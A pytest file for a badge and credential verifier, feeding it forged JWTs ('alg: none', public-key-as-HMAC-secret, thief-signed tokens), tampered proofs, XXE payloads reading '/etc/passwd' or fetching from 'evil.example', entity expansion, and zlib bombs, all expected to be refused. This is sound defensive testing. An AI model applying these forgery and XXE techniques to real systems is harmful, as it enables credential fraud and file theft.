"""Forged and hostile badge files: a failed check or a typed error, never a valid badge."""

from __future__ import annotations

import json
import zlib
from pathlib import Path
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import ec

import minting
from minting import TITLE, Mint, assertion, day, forged, png, svg
from recognizer.badge_files import MAX_SVG_BYTES, MAX_TEXT_BYTES
from recognizer.badge_result import Badge
from recognizer.badges import MAX_BADGES, BadgeChecker
from recognizer.errors import DamagedBadge, NotABadge, TooLarge, UnreadableFile
from recognizer.settings import Settings

MINT, THIEF = Mint(), Mint()
TRUSTED = "signature_valid_issuer_trusted"


@pytest.fixture(scope="module")
def checker(tmp_path_factory: pytest.TempPathFactory) -> BadgeChecker:
    """One that trusts MINT: whatever is forged must not be taken for its."""
    file = tmp_path_factory.mktemp("trust") / "trust.json"
    file.write_text(json.dumps([{"id": MINT.did, "provider": "amazon-web-services"}]))
    return BadgeChecker.load(trust=file)


def one(checker: BadgeChecker, data: bytes | str) -> Badge:
    content = data.encode() if isinstance(data, str) else data
    (badge,) = checker.check(content, name="badge").badges
    return badge


def changed(document: str, **changes: Any) -> str:
    return json.dumps({**json.loads(document), **changes})


def signed_by_thief(**header: Any) -> str:
    """A token in MINT's name, signed by another."""
    return THIEF.token(MINT.credential(), **header)


def with_public_key_as_secret(wrapped: bool = False) -> str:
    """A token whose signature is a hash with the public key as its secret."""
    parts = MINT.token(wrapped=wrapped).split(".")
    header = minting.packed(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    message = f"{header}.{parts[1]}".encode()
    algorithm = jwt.algorithms.HMACAlgorithm(jwt.algorithms.HMACAlgorithm.SHA256)
    return f"{message.decode()}.{minting.packed(algorithm.sign(message, MINT.public_pem))}"


def with_another_proof() -> str:
    """MINT's credential with the proof that a thief made for it."""
    method = f"{THIEF.did}#{THIEF.did.removeprefix('did:key:')}"
    return THIEF.document(MINT.credential(), method)


def of_a_curve() -> str:
    """MINT's token, signed by a key of another kind."""
    key = ec.generate_private_key(ec.SECP256R1())
    payload = {**MINT.credential(), **minting.claims_of(MINT.credential())}
    return jwt.encode(payload, key, algorithm="ES256")


TITLE_OF = {"achievement": {"id": "urn:x:1", "type": ["Achievement"], "name": "CISSP"}}
SUBJECT = MINT.credential()["credentialSubject"]
MOVED = {**MINT.credential(), **minting.claims_of(MINT.credential()), "iss": THIEF.did}
FORGED: dict[str, str] = {
    "token changed": forged(MINT.token(), payload={"name": "CISSP"}),
    "older token changed": forged(MINT.token(wrapped=True), payload={"jti": "urn:x:2"}),
    "no algorithm": forged(MINT.token(), header={"alg": "none"}),
    "no algorithm, no signature": forged(MINT.token(), header={"alg": "none"}).rpartition(".")[0]
    + ".",
    "older, no algorithm": forged(MINT.token(wrapped=True), header={"alg": "none"}),
    "key as secret": with_public_key_as_secret(),
    "older, key as secret": with_public_key_as_secret(wrapped=True),
    "key of another kind": of_a_curve(),
    "signed by another, key along": signed_by_thief(jwk=THIEF.jwk, kid=None),
    "signed by another, named": signed_by_thief(),
    "signed by another, names the issuer's": signed_by_thief(kid=f"{MINT.did}#x"),
    "signed by the issuer, names another's": MINT.token(kid=f"{THIEF.did}#x"),
    "older, signed by another": THIEF.token(MINT.credential(), wrapped=True),
    "payload says another issuer": jwt.encode(MOVED, THIEF.key, algorithm="EdDSA"),
    "payload says another issuer, signed by it": jwt.encode(
        MOVED, THIEF.key, algorithm="EdDSA", headers={"kid": THIEF.did}
    ),
    "without its claims": jwt.encode(MINT.credential(), MINT.key, algorithm="EdDSA"),
    "critical extension": forged(MINT.token(), header={"crit": ["exp"]}),
    "json changed": changed(MINT.document(), name="CISSP"),
    "json with a member more": changed(MINT.document(), awardedBy="Anybody"),
    "json with a member under a full name": changed(
        MINT.document(), **{"https://schema.org/name": "CISSP"}
    ),
    "json with another subject": changed(
        MINT.document(), credentialSubject={**SUBJECT, **TITLE_OF}
    ),
    "json with a later end": changed(
        MINT.document(MINT.credential(validUntil=day(1))), validUntil=day(900)
    ),
    "json with the end in the older spelling": changed(
        MINT.document(MINT.credential(validUntil=day(1))), expirationDate=day(900)
    ),
    "json signed by another": with_another_proof(),
    "json with the proof's purpose changed": changed(
        MINT.document(), proof={**json.loads(MINT.document())["proof"], "proofPurpose": "login"}
    ),
    "json with a broken proof": changed(
        MINT.document(), proof={**json.loads(MINT.document())["proof"], "proofValue": "z1"}
    ),
    "json with two proofs": changed(
        MINT.document(), proof=[json.loads(MINT.document())["proof"]] * 2
    ),
}


@pytest.mark.parametrize("way", FORGED)
def test_forged_badge_fails(checker: BadgeChecker, way: str) -> None:
    badge = one(checker, FORGED[way])
    assert (badge.outcome("proof"), badge.state, badge.valid) == ("failed", "claimed", False)
    assert badge.issuer.id is None
    assert badge.how.startswith("Do not rely on this file.")


def test_the_badges_that_were_forged_are_good(checker: BadgeChecker) -> None:
    for content in (MINT.token(), MINT.token(wrapped=True), MINT.document()):
        assert one(checker, content).state == TRUSTED


def test_key_that_comes_along_proves_nothing(checker: BadgeChecker) -> None:
    credential = THIEF.credential("https://aws.example/issuer")
    badge = one(checker, THIEF.token(credential, jwk=THIEF.jwk, kid=None))
    assert (badge.outcome("proof"), badge.state, badge.valid) == ("not_checked", "claimed", None)
    assert "came along with the badge" in badge.how
    badge = one(checker, assertion_by_thief())
    assert (badge.outcome("proof"), badge.state) == ("not_checked", "claimed")


def assertion_by_thief() -> str:
    document = assertion(verification={"type": "SignedBadge", "creator": "https://a.example/key"})
    return jwt.encode(document, THIEF.key, algorithm="EdDSA", headers={"jwk": THIEF.jwk})


@pytest.mark.parametrize("algorithm", ["none", "HS256"])
def test_forged_assertion_fails(tmp_path: Path, algorithm: str) -> None:
    creator = "https://badges.example/key"
    file = tmp_path / "trust.json"
    entry = {"id": creator, "provider": "amazon-web-services", "keys": [MINT.jwk]}
    file.write_text(json.dumps([entry]))
    checker = BadgeChecker.load(trust=file)
    document = assertion(verification={"type": "SignedBadge", "creator": creator})
    good = jwt.encode(document, MINT.key, algorithm="EdDSA")
    assert one(checker, good).state == TRUSTED
    badge = one(checker, forged(good, header={"alg": algorithm}))
    assert (badge.outcome("proof"), badge.state) == ("failed", "claimed")
    badge = one(checker, forged(good, payload={"issuedOn": day(-1)}))
    assert (badge.outcome("proof"), badge.state) == ("failed", "claimed")


@pytest.mark.parametrize(
    "changes",
    [
        {"proof": None},
        {"proof": {"type": "Ed25519Signature2020", "proofValue": "z1"}},
        {"proof": "z1"},
        {"proof": [{"type": "DataIntegrityProof", "cryptosuite": []}]},
        {"@context": [*minting.CONTEXTS, "https://evil.example/context"]},
        {"@context": [*minting.CONTEXTS, {"name": "https://schema.org/identifier"}]},
        {"issuer": {"id": "did:unheard:of", "type": ["Profile"]}},
        {"issuer": {"id": "did:key:z6MkNothing", "type": ["Profile"]}},
    ],
)
def test_proof_that_cannot_be_checked_is_not_valid(
    checker: BadgeChecker, changes: dict[str, Any]
) -> None:
    badge = one(checker, changed(MINT.document(), **changes))
    assert (badge.outcome("proof"), badge.state, badge.valid) == ("not_checked", "claimed", None)


def deep(levels: int) -> str:
    return MINT.document()[:-1] + ', "evidence": ' + "[" * levels + "]" * levels + "}"


CHUNK = minting.text_chunk
KEYWORD = b"openbadgecredential"
DAMAGED: dict[str, bytes] = {
    "deep json": deep(100_000).encode(),
    "rather deep json": deep(60).encode(),
    "deep json in a png": png(deep(500)),
    "member twice": MINT.document()[:-1].encode() + b', "issuer": "did:key:z6Mk"}',
    "half a character": MINT.document()[:-1].encode() + rb', "note": "\ud800"}',
    "no number": MINT.document()[:-1].encode() + b', "note": NaN}',
    "endless number": MINT.document()[:-1].encode() + b', "note": 1e999}',
    "long number": MINT.document()[:-1].encode() + b', "note": ' + b"9" * 6_000 + b"}",
    "broken json": b'{"type": ["OpenBadgeCredential"',
    "broken token": b"e30.e30x!".replace(b"!", b".") + b"AA",
    "token of no json": b"abc.def.ghi",
    "token of a list": f"{minting.packed(b'[]')}.{minting.packed(b'[]')}.x".encode(),
    "two in one png": png(MINT.token(), MINT.token()),
    "two in one svg": svg(MINT.token()).replace(b"</svg>", svg(MINT.token())[45:]),
    "two in one element": svg(MINT.token(), attribute=False).replace(
        b"<ob:credential ", b'<ob:credential verify="a.b.c" '
    ),
    "entities": b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    + svg(MINT.token()),
    "entity of a file": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    + svg(MINT.token()).replace(b"</svg>", b"&a;</svg>"),
    "parameter entity": b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>'
    + svg(MINT.token()),
    "broken svg": svg(MINT.token())[:-8],
    "broken chunk": png(MINT.token()).replace(b"openbadgecredential", b"openbadgecredentiaX"),
    "chunk cut off": png(MINT.token())[:-40],
    "nothing unpackable": minting.with_chunks(
        minting.chunk(b"iTXt", KEYWORD + b"\0\x01\0\0\0" + b"nonsense")
    ),
    "packed and cut off": minting.with_chunks(
        minting.chunk(b"iTXt", KEYWORD + b"\0\x01\0\0\0" + zlib.compress(b"{" * 900)[:-6])
    ),
    "chunk without its fields": minting.with_chunks(minting.chunk(b"iTXt", KEYWORD + b"\0\0")),
}


@pytest.mark.parametrize("way", DAMAGED)
def test_damaged_file_is_refused(checker: BadgeChecker, way: str) -> None:
    with pytest.raises(DamagedBadge) as refused:
        checker.check(DAMAGED[way], name="badge")
    assert "did:key" not in str(refused.value) and "passwd" not in str(refused.value)
    assert str(refused.value).startswith("badge is a damaged badge file")


BOMB = zlib.compress(b"{" + b" " * 50_000_000, 9)
LARGE: dict[str, bytes] = {
    "long json": MINT.document()[:-1].encode() + b" " * MAX_TEXT_BYTES + b"}",
    "long token": MINT.token().encode() + b"A" * MAX_TEXT_BYTES,
    "bomb in a png": minting.with_chunks(minting.chunk(b"iTXt", KEYWORD + b"\0\x01\0\0\0" + BOMB)),
    "many chunks": minting.with_chunks(minting.chunk(b"tEXt", b"a\0b") * 25_000),
    "large svg": svg(MINT.token()).replace(b"<circle", b" " * MAX_SVG_BYTES + b"<circle"),
    "many badges": json.dumps(
        {
            "type": ["ClrCredential"],
            "credentialSubject": {"verifiableCredential": [MINT.credential()] * (MAX_BADGES + 1)},
        }
    ).encode(),
    "larger than all": b"{" * (Settings().max_bytes + 1),
}


@pytest.mark.parametrize("way", LARGE)
def test_large_file_is_refused(checker: BadgeChecker, way: str) -> None:
    with pytest.raises(TooLarge):
        checker.check(LARGE[way], name="badge")


def test_chunk_bombs_of_other_kinds_are_not_unpacked(checker: BadgeChecker) -> None:
    """Text of other keywords and kinds is nothing to us, however large it would become."""
    bombs = (
        minting.chunk(b"zTXt", b"openbadges\0\0" + BOMB),
        minting.chunk(b"iTXt", b"Comment\0\x01\0\0\0" + BOMB),
        minting.chunk(b"iCCP", b"profile\0\0" + BOMB),
    )
    good = minting.text_chunk(MINT.token().encode(), KEYWORD)
    assert one(checker, minting.with_chunks(*bombs, good)).state == TRUSTED
    with pytest.raises(NotABadge):
        checker.check(minting.with_chunks(*bombs), name="badge")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"   ",
        b"%PDF-1.7",
        b"<html></html>",
        b"\xff\xfe{}",
        b"{}",
        b'{"type": "Person"}',
        b'{"type": ["VerifiableCredential", "UniversityDegreeCredential"]}',
        b'{"type": ["ClrCredential"], "credentialSubject": {}}',
        b"two words",
        b"GIF89a",
        minting.picture(),
        minting.SVG,
        png("just a comment"),
        svg("https://badges.example/assertions/1"),
    ],
)
def test_file_without_a_badge_is_refused(checker: BadgeChecker, content: bytes) -> None:
    with pytest.raises(NotABadge) as refused:
        checker.check(content, name="badge")
    assert refused.value.code == "not_a_badge"


@pytest.mark.parametrize(
    "value", [None, 7, True, "text", [], {}, [[]], [{}], {"id": []}, {"name": {}}, "\u202e", "\0"]
)
@pytest.mark.parametrize(
    "member",
    ["issuer", "credentialSubject", "validFrom", "proof", "@context", "credentialStatus", "id"],
)
def test_members_of_any_type_never_crash(checker: BadgeChecker, member: str, value: Any) -> None:
    """An empty list says nothing, so the proof still fits; everything else it refuses."""
    says_nothing = (member, value) == ("credentialStatus", [])
    document = {**json.loads(MINT.document()), member: value}
    contents = [json.dumps(document), forged(MINT.token(), payload={member: value})]
    contents.append(json.dumps(record_of(document, value)))
    for content in contents:
        try:
            found = checker.check(content.encode(), name="badge").badges
        except UnreadableFile as error:
            found = ()
            assert error.code in ("not_a_badge", "damaged_badge")
        assert says_nothing or all(badge.state == "claimed" for badge in found)


def record_of(document: dict[str, Any], value: Any) -> dict[str, Any]:
    inner = [document, value]
    return {"type": "ClrCredential", "credentialSubject": {"verifiableCredential": inner}}


@pytest.mark.parametrize("member", ["alg", "kid", "jwk", "crit", "typ", "x5c"])
@pytest.mark.parametrize("value", [None, 7, [], {}, "text", {"kty": []}])
def test_headers_of_any_type_never_crash(checker: BadgeChecker, member: str, value: Any) -> None:
    for wrapped in (False, True):
        badge = one(checker, forged(MINT.token(wrapped=wrapped), header={member: value}))
        assert badge.state == "claimed" and badge.title == TITLE
